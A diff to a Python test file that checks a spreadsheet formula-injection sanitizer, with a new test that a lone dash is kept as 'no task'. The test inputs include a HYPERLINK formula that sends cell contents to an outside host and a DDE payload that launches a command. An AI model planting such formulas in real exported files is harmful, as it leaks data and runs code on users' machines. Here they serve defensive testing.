@@ -19,12 +19,17 @@ from circuitwatch.summary.importers.tables import read_columns
 
 FORMULAS = [
     '=HYPERLINK("http://elsewhere/?"&A1,"open")',
-    *("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "-x", "+ 1"),
+    *("=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-x", "+ 1"),
     *("\uff1d1", "'=1", "''=1", "'-", "=cmd|' /C calc'!A0", "-1 2", "+1e", "--1"),
 ]
 TEXTS = ["pythia-160m", "", "a=b", "'quoted'", "'", "it's", "1-2", "é", "–0.5", " =1"]
 NUMBERS = ["-1", "+1", "-2.5", "-.5", "-1e-5", "+3E8", "-inf"]
 BEGINNINGS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
+
+
+def test_a_dash_alone_is_none() -> None:
+    """In our tables it stands for "no task"; it is looked up by that name."""
+    assert harmless("-") == "-" == as_read("-")
 
 
 @pytest.mark.parametrize("text", FORMULAS)
